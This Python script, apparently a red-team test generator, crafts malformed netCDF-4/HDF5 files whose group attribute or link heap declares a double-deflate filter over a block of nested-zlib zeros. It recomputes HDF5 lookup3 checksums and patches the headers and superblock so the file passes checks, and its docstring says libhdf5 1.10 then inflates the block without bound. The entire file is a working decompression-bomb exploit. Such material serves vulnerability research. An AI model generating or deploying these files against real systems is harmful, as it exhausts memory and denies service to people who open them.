"""netCDF-4 files whose group `/g` keeps its attributes or its links in a fractal heap
that declares a filter pipeline (red team s32 HD3).

Usage: make.py KIND OUT SIZE

KIND is `attributes` (two attributes in dense storage) or `links` (ten subgroups, so
dense link storage). The heap's header is written again at the end of the file with a
pipeline of two deflates, and its root direct block replaced by zlib(zlib(SIZE zero
bytes)); the message that names the heap, its header's checksum and the superblock
(end of file, checksum) are updated. libhdf5 1.10 inflates the block without bound
when it reads any of the group's attributes or links. No HDF5 writer makes such a heap.
"""
import struct
import sys
import zlib

import h5py
import numpy as np
from h5py import h5g, h5p

kind, out, size = sys.argv[1], sys.argv[2], int(sys.argv[3])


def rotate(x, k):
    return ((x << k) | (x >> (32 - k))) & 0xFFFFFFFF


def lookup3(data):
    """Bob Jenkins' lookup3 `hashlittle` (seed 0), HDF5's metadata checksum."""
    mask = 0xFFFFFFFF
    length = len(data)
    a = b = c = (0xDEADBEEF + length) & mask
    i = 0
    word = lambda at: int.from_bytes(data[at:at + 4], "little")  # noqa: E731
    while length > 12:
        a, b, c = (a + word(i)) & mask, (b + word(i + 4)) & mask, (c + word(i + 8)) & mask
        a = (a - c) & mask; a ^= rotate(c, 4); c = (c + b) & mask
        b = (b - a) & mask; b ^= rotate(a, 6); a = (a + c) & mask
        c = (c - b) & mask; c ^= rotate(b, 8); b = (b + a) & mask
        a = (a - c) & mask; a ^= rotate(c, 16); c = (c + b) & mask
        b = (b - a) & mask; b ^= rotate(a, 19); a = (a + c) & mask
        c = (c - b) & mask; c ^= rotate(b, 4); b = (b + a) & mask
        length -= 12
        i += 12
    if length == 0:
        return c
    tail = bytes(data[i:i + length]) + bytes(12 - length)
    a = (a + int.from_bytes(tail[0:4], "little")) & mask
    b = (b + int.from_bytes(tail[4:8], "little")) & mask
    c = (c + int.from_bytes(tail[8:12], "little")) & mask
    c ^= b; c = (c - rotate(b, 14)) & mask
    a ^= c; a = (a - rotate(c, 11)) & mask
    b ^= a; b = (b - rotate(a, 25)) & mask
    c ^= b; c = (c - rotate(b, 16)) & mask
    a ^= c; a = (a - rotate(c, 4)) & mask
    b ^= a; b = (b - rotate(a, 14)) & mask
    c ^= b; c = (c - rotate(b, 24)) & mask
    return c


def zeros_stream(total):
    compressor = zlib.compressobj(9)
    stream = bytearray()
    block = bytes(1 << 24)
    while total > 0:
        n = min(total, len(block))
        stream += compressor.compress(block[:n])
        total -= n
    return bytes(stream + compressor.flush())


with h5py.File(out, "w", libver=("v110", "v110")) as f:
    gcpl = h5p.create(h5p.GROUP_CREATE)
    if kind == "attributes":
        gcpl.set_attr_phase_change(0, 0)
    h5g.create(f.id, b"g", gcpl=gcpl)
    g = f["g"]
    if kind == "attributes":
        g.attrs["a"] = 1
        g.attrs["b"] = np.float32(2)
    else:
        for k in range(10):
            g.create_group(f"s{k}")
    f.create_dataset("v", data=np.arange(4, dtype="f4"))

data = bytearray(open(out, "rb").read())
heap = data.find(b"FRHP")
header = bytes(data[heap:heap + 146])
assert lookup3(header[:142]) == struct.unpack("<I", header[142:146])[0]
block = zlib.compress(zeros_stream(size), 9)
pipeline = bytes([2, 2]) + struct.pack("<HHHI", 1, 0, 1, 9) * 2
block_at = len(data)
data += block
new = bytearray(header[:142])
new[7:9] = struct.pack("<H", len(pipeline))
new[132:140] = struct.pack("<Q", block_at)
new += struct.pack("<QI", len(block), 0) + pipeline
new += struct.pack("<I", lookup3(bytes(new)))
new_at = len(data)
data += new
# The message naming the heap (in g's object header): point it at the new header.
named = struct.pack("<Q", heap)
at = data.find(named)
while at >= 0:
    start = data.rfind(b"OHDR", 0, at)
    if at != heap and start >= 0 and data.rfind(b"FRHP", 0, at) < start:
        data[at:at + 8] = struct.pack("<Q", new_at)
        flags = data[start + 5]
        size_at = start + 6 + (16 if flags & 0x20 else 0) + (4 if flags & 0x10 else 0)
        width = 1 << (flags & 3)
        end = size_at + width + int.from_bytes(data[size_at:size_at + width], "little")
        data[end:end + 4] = struct.pack("<I", lookup3(bytes(data[start:end])))
        break
    at = data.find(named, at + 1)
else:
    sys.exit("no message names the heap")
# Superblock version 2 or 3: end of file at 28, checksum at 44.
data[28:36] = struct.pack("<Q", len(data))
data[44:48] = struct.pack("<I", lookup3(bytes(data[:44])))
open(out, "wb").write(bytes(data))
